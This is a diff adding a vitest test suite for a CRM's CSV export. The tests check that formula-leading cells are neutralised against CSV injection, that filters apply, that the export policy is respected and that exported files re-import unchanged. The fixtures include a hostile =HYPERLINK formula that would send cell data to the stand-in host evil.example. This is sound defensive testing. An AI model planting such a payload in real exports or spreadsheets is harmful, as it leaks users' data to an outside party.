@@ -1,0 +1,171 @@
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { AccountDraft } from '../../../src-shared/domain/account';
+import { ActivityDraft } from '../../../src-shared/domain/activity';
+import { ContactDraft, ContactListQuery } from '../../../src-shared/domain/contact';
+import { DealDraft } from '../../../src-shared/domain/deal';
+import { NotPermittedError } from '../../../src-shared/ipc/errors';
+import { ExportRequest } from '../../../src-shared/transfer/export';
+import { ImportRun } from '../../../src-shared/transfer/import';
+import { TempVaultFolder } from '../../testing/temp-vault';
+import type { Vault } from '../../vault/vault';
+import { createAccount } from '../crm/account.service';
+import { createActivity } from '../crm/activity.service';
+import { createContact, listContacts } from '../crm/contact.service';
+import { createDeal } from '../crm/deal.service';
+import { majorUnits } from './export-columns';
+import { exportCsv, neutraliseCell } from './export.service';
+import { ownerExportPolicy, type ExportContext, type ExportPolicy } from './export-policy';
+import { ImportService } from './import.service';
+
+const sender = { transport: 'test', origin: 'test://fieldvault' } as const;
+const now = Date.UTC(2026, 4, 1, 12);
+
+function rowsOf(csv: string): string[][] {
+  expect(csv.startsWith('\uFEFF')).toBe(true);
+  return parse(csv.slice(1), { relax_column_count: false });
+}
+
+describe('CSV export', () => {
+  let folder: TempVaultFolder;
+  let vault: Vault;
+
+  beforeAll(async () => {
+    folder = await TempVaultFolder.create();
+    vault = folder.vault();
+    await vault.create('export test password 1');
+    await vault.connection().write(async (tx) => {
+      const account = await createAccount(tx, AccountDraft.parse({ name: '+Plus Industries', industry: '@handle', tags: ['key'] }), now);
+      const evil = await createContact(
+        tx,
+        ContactDraft.parse({
+          name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+          title: '-2+3',
+          emails: ['evil@example.org'],
+          phones: ['+44 20 7946 0000'],
+          accountId: account.id,
+          notes: '\tTab first\r\nthen a line',
+          tags: ['vip'],
+        }),
+        now,
+      );
+      await createContact(tx, ContactDraft.parse({ name: 'محمد 🚀 王小明', emails: ['m@example.org', 'm2@example.org'], address: { city: 'Zürich' } }), now);
+      await createContact(tx, ContactDraft.parse({ name: 'Plain Person', notes: ' =1+1 leading space' }), now);
+      const deal = await createDeal(tx, DealDraft.parse({ name: 'Big deal', accountId: account.id, contactIds: [evil.id], amount: 1234567, currency: 'EUR', stageId: 'lead', expectedCloseDate: '2026-06-30' }), now);
+      await createDeal(tx, DealDraft.parse({ name: 'Yen deal', amount: 5000, currency: 'JPY', stageId: 'won', expectedCloseDate: '2026-07-01' }), now);
+      await createActivity(tx, ActivityDraft.parse({ kind: 'call', subject: 'Intro call', contactId: evil.id, dealId: deal.id, occurredAt: now }), now);
+    });
+  });
+
+  afterAll(async () => {
+    await folder.dispose();
+  });
+
+  const run = (request: unknown, policy: ExportPolicy = ownerExportPolicy) =>
+    exportCsv(ExportRequest.parse(request), { connection: vault.connection(), policy, sender, now });
+
+  it('neutralises every cell a spreadsheet would evaluate (OWASP CSV injection)', async () => {
+    const cases: [string, string][] = [
+      ['=1+1', "'=1+1"],
+      ['+44 20', "'+44 20"],
+      ['-5', "'-5"],
+      ['@SUM(A1)', "'@SUM(A1)"],
+      ['\tx', "'\tx"],
+      ['\rx', "'\rx"],
+      ['  =cmd', "'  =cmd"],
+      ['plain', 'plain'],
+      ['a=b', 'a=b'],
+      ['', ''],
+    ];
+    for (const [input, output] of cases) expect(neutraliseCell(input)).toBe(output);
+    const result = await run({ entity: 'contacts', query: { sort: { field: 'name', direction: 'asc' } } });
+    expect(result).toMatchObject({ rows: 3, fileName: 'contacts-2026-05-01.csv' });
+    const [header, ...rows] = rowsOf(result.csv);
+    expect(header?.slice(0, 5)).toEqual(['Name', 'Title', 'Company', 'Email', 'Phone']);
+    const column = (name: string) => header?.indexOf(name) ?? -1;
+    const evil = rows.find((row) => row[column('Name')]?.includes('HYPERLINK'));
+    expect(evil?.[column('Name')]).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"click")');
+    expect(evil?.[column('Title')]).toBe("'-2+3");
+    expect(evil?.[column('Company')]).toBe("'+Plus Industries");
+    expect(evil?.[column('Phone')]).toBe("'+44 20 7946 0000");
+    expect(evil?.[column('Notes')]).toBe("'\tTab first\r\nthen a line");
+    expect(rows.find((row) => row[column('Name')] === 'Plain Person')?.[column('Notes')]).toBe("' =1+1 leading space");
+    // Every cell of the file, not only the known ones, is safe.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps emoji, RTL and CJK text intact and joins lists', async () => {
+    const result = await run({ entity: 'contacts', query: {} });
+    const [header, ...rows] = rowsOf(result.csv);
+    const row = rows.find((cells) => cells[0] === 'محمد 🚀 王小明');
+    expect(row?.[header?.indexOf('Email') ?? -1]).toBe('m@example.org; m2@example.org');
+    expect(row?.[header?.indexOf('City') ?? -1]).toBe('Zürich');
+  });
+
+  it('exports the list the user sees: its filters and sort', async () => {
+    const tagged = await run({ entity: 'contacts', query: { filter: { tags: ['vip'] } } });
+    expect(tagged.rows).toBe(1);
+    const accounts = await run({ entity: 'accounts', query: {} });
+    expect(rowsOf(accounts.csv)[1]?.slice(0, 2)).toEqual(["'+Plus Industries", "'@handle"]);
+    const deals = await run({ entity: 'deals', query: { sort: { field: 'name', direction: 'asc' } } });
+    const [dealHeader, big, yen] = rowsOf(deals.csv);
+    expect(dealHeader?.slice(0, 5)).toEqual(['Name', 'Account', 'Contacts', 'Amount', 'Currency']);
+    expect(big?.slice(0, 5)).toEqual(['Big deal', "'+Plus Industries", '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '12345.67', 'EUR']);
+    expect(yen?.slice(3, 5)).toEqual(['5000', 'JPY']);
+    const activities = await run({ entity: 'activities', query: {} });
+    expect(rowsOf(activities.csv)[1]?.slice(0, 5)).toEqual(['call', 'Intro call', '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', '', 'Big deal']);
+    const tasks = await run({ entity: 'tasks', query: {} });
+    expect(tasks.rows).toBe(0);
+    expect(rowsOf(tasks.csv)).toHaveLength(1);
+    expect(majorUnits(5, 'KWD')).toBe('0.005');
+  });
+
+  it('asks the export policy first and tells it the outcome, with names and counts only', async () => {
+    const seen: { before?: ExportContext; after?: ExportContext & { exportedColumns: readonly string[]; rows: number; bytes: number } } = {};
+    const narrowing: ExportPolicy = {
+      beforeExport: (context) => {
+        seen.before = context;
+        return Promise.resolve({ columns: context.columns.filter((column) => column.sensitivity !== 'sensitive' && column.sensitivity !== 'personal').map((column) => column.key) });
+      },
+      afterExport: (context) => {
+        seen.after = context;
+        return Promise.resolve();
+      },
+    };
+    const result = await run({ entity: 'contacts', query: { filter: { tags: ['vip'] } } }, narrowing);
+    const [header] = rowsOf(result.csv);
+    expect(header).toEqual(['Title', 'Company', 'Preferred channel', 'Tags', 'Owner', 'Created', 'Updated', 'Id']);
+    expect(seen.before).toMatchObject({ entity: 'contacts', filterFields: ['tags'], deleted: 'exclude', sender });
+    expect(seen.after).toMatchObject({ rows: 1, exportedColumns: ['title', 'accountId', 'preferredChannel', 'tags', 'ownerId', 'createdAt', 'updatedAt', 'id'] });
+    expect(JSON.stringify(seen)).not.toContain('vip');
+
+    const refusing: ExportPolicy = { beforeExport: () => Promise.reject(new NotPermittedError('contacts:export')), afterExport: () => Promise.resolve() };
+    await expect(run({ entity: 'contacts', query: {} }, refusing)).rejects.toThrow(NotPermittedError);
+  });
+
+  it('writes a contacts file that imports again without remapping, to the same values', async () => {
+    const exported = await run({ entity: 'contacts', query: {} });
+    const target = await TempVaultFolder.create();
+    try {
+      const other = target.vault();
+      await other.create('export test password 2');
+      const service = new ImportService({ vault: other, log: target.log, onProgress: () => undefined });
+      const uploadId = service.uploads.append(undefined, Buffer.from(exported.csv, 'utf8'), true).uploadId;
+      const preview = await service.preview({ uploadId, format: 'csv', entity: 'contacts', rows: 10 });
+      expect(preview.encoding).toBe('utf-8-bom');
+      expect(preview.mapping.slice(0, 5)).toEqual(['name', 'title', 'company', 'email', 'phone']);
+      const status = await service.run(ImportRun.parse({ uploadId, format: 'csv', entity: 'contacts' }));
+      if (status.jobId === null) throw new Error('no job');
+      await service.settled(status.jobId);
+      expect(await service.status(status.jobId, 0)).toMatchObject({ state: 'done', imported: 3, rejected: 0 });
+      const fields = (list: { name: string; title: string; emails: string[]; phones: string[]; notes: string; tags: string[] }[]) =>
+        list.map(({ name, title, emails, phones, notes, tags }) => ({ name, title, emails, phones, notes: notes.trim(), tags })).sort((a, b) => a.name.localeCompare(b.name));
+      const original = await vault.connection().read((tx) => listContacts(tx, ContactListQuery.parse({})));
+      const copied = await other.connection().read((tx) => listContacts(tx, ContactListQuery.parse({})));
+      expect(fields(copied.items)).toEqual(fields(original.items));
+      expect(copied.items.find((contact) => contact.phones.length > 0)?.phones).toEqual(['+44 20 7946 0000']);
+    } finally {
+      await target.dispose();
+    }
+  });
+});
